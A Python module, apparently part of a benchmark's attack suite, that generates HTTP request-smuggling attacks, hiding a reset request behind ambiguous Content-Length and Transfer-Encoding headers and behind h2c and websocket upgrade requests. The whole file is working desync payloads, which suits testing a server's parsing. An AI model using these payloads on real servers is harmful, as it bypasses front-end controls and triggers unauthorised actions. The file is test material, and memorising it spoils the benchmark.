"""Request smuggling: requests that a server with another parser would read as two. The hidden one
is a reset, so that a single success shows in the totals."""

from bench.hostile.attack_client import Attack, AttackClient, request

JSON = "Content-Type: application/json"
RESET = request("POST /api/analytics/reset", JSON, body=b'{"confirm":"reset"}')
CHUNKED = b"%x\r\n%s\r\n0\r\n\r\n" % (len(RESET), RESET)
UPGRADE_HEADERS = (
    ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"),
    ("Connection: upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
    ("Connection: Upgrade", "Upgrade: TLS/1.0, HTTP/2.0"),
)
LENGTH = f"Content-Length: {len(RESET)}"
AMBIGUOUS_LENGTHS = (
    (LENGTH, "Transfer-Encoding: chunked"),
    ("Transfer-Encoding: chunked", "Content-Length: 4"),
    ("Transfer-Encoding: chunked, identity",),
    ("Transfer-Encoding: xchunked", LENGTH),
    ("Transfer-Encoding : chunked", LENGTH),
    ("Transfer-Encoding:\x0bchunked", LENGTH),
    ("Content-Length: 0", LENGTH),
    (f"Content-Length: +{len(RESET)}",),
    (f"Content-Length: {len(RESET)}, {len(RESET)}",),
    ("Expect: 100-continue", LENGTH),
)


async def smuggle_behind_upgrade(client: AttackClient, number: int) -> str:
    """Ask for an upgrade, with the hidden request as the body in a second packet."""
    lines = UPGRADE_HEADERS[number % len(UPGRADE_HEADERS)]
    path = ("/api/events", "/login", "/nothing", "/")[number // 3 % 4]
    return await client.send(request(f"POST {path}", JSON, *lines, LENGTH), RESET)


async def smuggle_by_length(client: AttackClient, number: int) -> str:
    """Send a hidden request behind headers with an ambiguous length."""
    lines = AMBIGUOUS_LENGTHS[number % len(AMBIGUOUS_LENGTHS)]
    body = CHUNKED if "chunked" in " ".join(lines) else RESET
    return await client.send(request("POST /api/events", JSON, *lines), body)


async def smuggle(client: AttackClient, number: int) -> str:
    """Smuggle in both ways by turns."""
    return await (smuggle_behind_upgrade if number % 2 else smuggle_by_length)(client, number // 2)


ATTACKS = {"smuggling": Attack(smuggle, 60)}
